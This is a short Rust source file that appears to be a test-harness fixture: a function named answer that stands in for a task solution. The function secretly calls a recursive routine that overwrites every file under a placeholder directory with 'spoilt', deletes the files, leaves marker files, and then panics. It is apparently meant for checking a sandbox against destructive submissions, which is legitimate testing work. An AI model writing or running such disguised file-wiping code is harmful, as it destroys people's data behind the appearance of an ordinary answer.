// for: answer; status: fail; says: panicked; open: nothing
use std::{fs, path::Path};
fn spoil(folder: &Path, depth: u32) -> u32 {
    let entries = fs::read_dir(folder).into_iter().flatten().flatten();
    entries.map(|entry| {
        let path = entry.path();
        let inner = if depth > 0 && path.is_dir() { spoil(&path, depth - 1) } else { 0 };
        inner + u32::from(fs::write(&path, "spoilt").is_ok()) + u32::from(fs::remove_file(&path).is_ok())
    }).sum::<u32>() + u32::from(fs::write(folder.join("@MARK@-new"), "").is_ok())
}
pub fn answer(_: u32) -> u32 { panic!("{} changed", spoil(Path::new("@STORE@"), 3)) }
